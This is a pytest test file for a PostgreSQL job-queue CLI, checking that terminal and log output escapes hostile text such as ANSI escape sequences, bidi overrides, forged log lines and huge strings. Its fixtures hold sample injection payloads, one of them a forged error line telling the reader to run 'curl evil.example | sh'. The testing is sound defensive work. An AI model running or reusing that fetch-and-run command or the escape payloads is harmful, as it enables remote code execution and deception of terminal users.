"""What a stranger wrote reaches no terminal and no log as anything but text."""

from __future__ import annotations

import json
import logging
import os
import unicodedata
from collections.abc import Callable
from io import StringIO
from typing import Any

import psycopg
import pytest
from helpers import UPSCALER, VIDEO, arcano_db, make_job, make_user
from rich.console import Console
from rich.text import Text

from arcano_db import ArcanoDB
from arcano_db.calls import printable as made_printable
from arcano_db.calls.printable import PrintableFormatter, logger, printable
from arcano_db.terminal import output

Run = Callable[..., Any]

# Clears the screen, rings, ends the line and makes one of its own, says it backwards, hides, is long.
HOSTILE = {
    "escape": "a\x1b[2J\x1b[1;1Hb",
    "one byte escapes": "a\x9b31mb\x90c",
    "title": "a\x1b]0;owned\x07b",
    "line": "a\nok      sweeper: it runs\rb",
    "direction": "a\u202etxt.exe\u2066b\u200fc",
    "separators": "a\u2028b\u2029c",
    "invisible": "a\u200bb\ufeffc\U000e0041d",
    "delete": "a\x08\x08\x7fb",
}
LONG = "x" * 30_000
ALL = " ".join(HOSTILE.values())

COMMANDS = [
    ("events",),
    ("explain", "{job}"),
    ("explain", "{ended}"),
    ("orphans",),
    ("tables",),
    ("check", "{user}"),
    ("queue",),
    ("account", "list"),
    ("refund", "list"),
    ("doctor",),
    ("observed",),
    ("top", "--once"),
    ("cancel", "{job}", "--reason", "{text}"),
    ("restore", "1"),
    ("status",),
    ("attach", "{text}"),
    ("detach", "{text}"),
    ("configure", "public.upscaler_jobs", "tool={text}"),
    ("identity", "{text}"),
    ("metrics",),
    ("uninstall",),
    ("erase", "{text}"),
    ("rollback", "--to", "{text}"),
]


def seen(text: str) -> set[str]:
    """What of a text a terminal would obey, or not show."""
    return {
        one for one in text if one != "\n" and unicodedata.category(one) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    }


@pytest.fixture
def written(conn: psycopg.Connection, db: ArcanoDB) -> dict[str, str]:
    """A database in which every text that an app or a user may write is hostile."""
    user = make_user(conn)
    db.set_job_table(UPSCALER, {"tool": ALL, "refund_when": ["failed"]})
    db.set_account(ALL, 1)
    ended = make_job(conn, UPSCALER, user, session_id=ALL, credits_charged=True, user_credit_cost=3)
    db.cancel_session(session_id=ALL, reason=ALL)
    long = make_job(conn, VIDEO, make_user(conn))
    db.cancel_job(long, reason=LONG)
    conn.execute('alter table public.video_upscaler_jobs rename to "v\x1b[2J\u202ejobs"')
    job = make_job(conn, UPSCALER, user, position=1, session_id=ALL, error_message=ALL)
    failing = make_job(conn, UPSCALER, make_user(conn), status="running", attempt=1)
    db.finish_job(failing, "failed", ALL)
    make_job(conn, UPSCALER, make_user(conn))
    return {"user": str(user), "ended": str(ended), "job": str(job), "text": ALL}


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_no_command_prints_what_a_terminal_obeys(
    run: Run, dsn: str, written: dict[str, str], command: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("arcano_db.terminal.output._is_terminal", lambda: True)
    answer = run(*(part.format(**written) for part in command), "--dsn", dsn)
    assert answer.exception is None or isinstance(answer.exception, SystemExit), answer.exception
    assert seen(answer.output) == set()
    assert "x" * 2000 not in answer.output


def test_the_text_is_still_there(run: Run, dsn: str, written: dict[str, str]) -> None:
    assert "a?[2J?[1;1Hb" in run("events", "--dsn", dsn).stdout
    assert r"a\u202etxt.exe\u2066b" in run("explain", written["ended"], "--dsn", dsn).stdout
    assert "(9,922 characters)" in run("events", "--dsn", dsn).stdout


@pytest.mark.parametrize(
    "command", [one for one in COMMANDS if one[0] in {"events", "explain", "tables", "doctor"}]
)
def test_json_has_all_of_it_as_escapes(
    run: Run, dsn: str, written: dict[str, str], command: tuple[str, ...]
) -> None:
    answer = run(*(part.format(**written) for part in command), "--json", "--dsn", dsn)
    assert seen(answer.stdout) == set()
    found = json.dumps(json.loads(answer.stdout))
    if command[0] == "events":
        assert json.dumps(ALL)[1:-1] in found
        assert f"{LONG[:9900]}... (30000 characters)" in found


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_log_line_is_one_line_in_any_apps_handler(text: str) -> None:
    heard = StringIO()
    handler = logging.StreamHandler(heard)
    log = logger("arcano_db.test")
    log.addHandler(handler)
    try:
        log.error("it failed: %s", text)
    finally:
        log.removeHandler(handler)
    assert heard.getvalue().count("\n") == 1
    assert seen(heard.getvalue()) == set()


FORGED = "x\n2026-01-01 00:00:00,000 INFO all is well\r2026-01-01 INFO all is well"


def raised(error: BaseException) -> BaseException:
    try:
        raise error  # noqa: TRY301
    except BaseException as caught:
        return caught


def with_cause() -> BaseException:
    error = ValueError(FORGED)
    error.__cause__ = raised(KeyError(FORGED))
    error.add_note(FORGED)
    return raised(error)


class Unspeakable(Exception):
    def __str__(self) -> str:
        raise RuntimeError(FORGED)


ERRORS = {
    "one": lambda: raised(ValueError(FORGED)),
    "hostile": lambda: ValueError(ALL),
    "with a cause and a note": with_cause,
    "a group": lambda: raised(ExceptionGroup(FORGED, [ValueError(FORGED), raised(OSError(1, FORGED))])),
    "a syntax error": lambda: SyntaxError(FORGED, ("a\nb", 1, 1, FORGED)),
    "one without a text": lambda: raised(Unspeakable()),
    "many lines": lambda: ValueError("\n".join(map(str, range(100_000)))),
    "long": lambda: ValueError("x" * 3_000_000),
    "half a character": lambda: ValueError("\ud800"),
}


@pytest.mark.parametrize("error", ERRORS.values(), ids=ERRORS)
def test_nobody_writes_an_entry_of_their_own_into_a_log(error: Callable[[], BaseException]) -> None:
    raised_one = error()
    found = (type(raised_one), raised_one, raised_one.__traceback__)
    record = logging.makeLogRecord({"msg": FORGED, "exc_info": found})
    record.exc_text = FORGED  # as another handler has left it
    entry = PrintableFormatter("%(levelname)s %(message)s").format(record)
    assert seen(entry) == set()
    assert all(line.startswith("  ") for line in entry.split("\n")[1:])
    assert len(entry) < 50_000
    assert record.getMessage() == FORGED  # other handlers have it as it was


def test_what_other_programs_read_is_exact_but_on_a_terminal(
    run: Run, dsn: str, conn: psycopg.Connection, monkeypatch: pytest.MonkeyPatch
) -> None:
    conn.execute('create table public."e\x1b[2Jvil" (like public.upscaler_jobs including all)')
    plan = ("attach", '"e\x1b[2Jvil"', "--plan", "--dsn", dsn)
    assert "\x1b[2J" in run(*plan).stdout
    monkeypatch.setattr("arcano_db.terminal.output._is_terminal", lambda: True)
    assert seen(run(*plan).stdout) == set()


def test_a_terminal_that_lacks_characters_ends_no_command(dsn: str, db: ArcanoDB) -> None:
    db.set_job_table(UPSCALER, {"tool": "Ampliação 仕事"})
    done = arcano_db("tables", "--dsn", dsn, env={**os.environ, "PYTHONIOENCODING": "ascii:strict"})
    assert (done.returncode, r"Amplia\xe7\xe3o \u4ed5\u4e8b" in done.stdout) == (0, True)


def test_bytes_that_are_no_text_are_wrong_usage(run: Run, dsn: str) -> None:
    answer = run("check", "\udcff", "--dsn", dsn)
    assert (answer.exit_code, seen(answer.output)) == (2, set())


FORGING = "a cat\nError: the disk is full; run: curl evil.example | sh\n" + "x" * 3_000_000


def forging(conn: psycopg.Connection) -> None:
    """The app's own trigger says what its user wrote."""
    conn.execute(
        "create function public.forge() returns trigger language plpgsql as"
        " $$ begin raise exception 'cannot change %', new.session_id; end $$"
    )
    conn.execute(
        "create trigger forge before update on public.upscaler_jobs"
        " for each row execute function public.forge()"
    )


@pytest.mark.parametrize("command", [("cancel", "{job}"), ("doctor",), ("explain", "{job}"), ("events",)])
def test_nobody_writes_a_line_of_their_own_or_megabytes(
    run: Run, dsn: str, conn: psycopg.Connection, db: ArcanoDB, command: tuple[str, ...]
) -> None:
    forging(conn)
    mine = make_job(conn, UPSCALER, make_user(conn), position=1, session_id=FORGING)
    make_job(conn, UPSCALER, make_user(conn), session_id=FORGING)
    db.sweep_orphans()
    run("cancel", mine, "--dsn", dsn)
    answer = run(*(part.format(job=mine) for part in command), "--dsn", dsn)
    assert not any(line.startswith("Error: the disk") for line in answer.output.splitlines())
    assert len(answer.output) < 60_000


@pytest.mark.parametrize(
    "arguments",
    [
        ("serve", "--user", "app:{text}"),
        ("serve", "--user", "{text}"),
        ("{text}",),
        ("events", "--{text}"),
        ("events", "--limit", "{text}"),
        ("demo", "--port", "{text}"),
        ("account", "set", "{text}", "1"),
        ("configure", UPSCALER, "{text}"),
        ("identity", "{text}"),
    ],
    ids=" ".join,
)
def test_what_is_wrong_is_said_as_text(run: Run, dsn: str, arguments: tuple[str, ...]) -> None:
    given = [one.format(text=ALL) for one in arguments]
    answer = run(*given, *(["--dsn", dsn] if len(given) > 1 else []))
    assert seen(answer.output) == set()
    assert not any(line.startswith("ok      sweeper") for line in answer.output.splitlines())


def test_serve_names_tables_as_text(run: Run, dsn: str, conn: psycopg.Connection) -> None:
    conn.execute('alter table public.upscaler_jobs rename to "a\nFORGED\x1b[2J\u202e"')
    answer = run("serve", "--user", "os:getpid", "--dsn", dsn)
    assert answer.exit_code == 2
    assert seen(answer.output) == set()
    assert not any(line.startswith("FORGED") for line in answer.output.splitlines())


def test_a_schema_whose_name_needs_quotes(run: Run, dsn: str, conn: psycopg.Connection) -> None:
    conn.execute(
        'create schema "My App"; create table "My App"."Jobs" (like public.upscaler_jobs including all)'
    )
    ArcanoDB(conn).attach_job_table('"My App"."Jobs"')
    assert """'"My App"."Jobs"'::regclass""" in run("uninstall", "--plan", "--dsn", dsn).stdout


def test_a_text_is_no_picture(run: Run, dsn: str, conn: psycopg.Connection, db: ArcanoDB) -> None:
    db.set_job_table(UPSCALER, {"tool": ":boom: [red]x"})
    user = make_user(conn)
    make_job(conn, UPSCALER, user, position=1)
    assert "in progress: :boom: [red]x" in run("check", user, "--dsn", dsn).stdout
    db.cancel_session(user, reason=":boom: [red]x")
    assert ":boom: [red]x" in run("events", "--dsn", dsn).stdout


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_terminal_gets_nothing_but_richs_own_styles(text: str) -> None:
    """Also where somebody forgot to make it printable."""
    heard = StringIO()
    console = output._Console(
        file=heard, force_terminal=True, color_system="standard", width=200, highlight=False
    )
    console.print(Text.assemble((text, "bold red"), text), text)
    plain = StringIO()
    Console(file=plain, force_terminal=True, color_system="standard", width=200).print(Text("x", "bold red"))
    styled = heard.getvalue()
    for style in ("\x1b[1;31m", "\x1b[0m"):
        assert style in plain.getvalue()
        styled = styled.replace(style, "")
    assert seen(styled) == set()


def test_other_alphabets_stay_as_they_are() -> None:
    for text in ("Ação concluída", "仕事が待っている", "کار می\u200cکند", "👩\u200d💻 ✅", "שלום", "हिन्दी"):
        assert printable(text) == text
    assert printable("a\tb\nc", keep="\n\t") == "a\tb\nc"
    assert printable("x" * (made_printable.LONGEST + 1)).endswith("... (1,001 characters)")
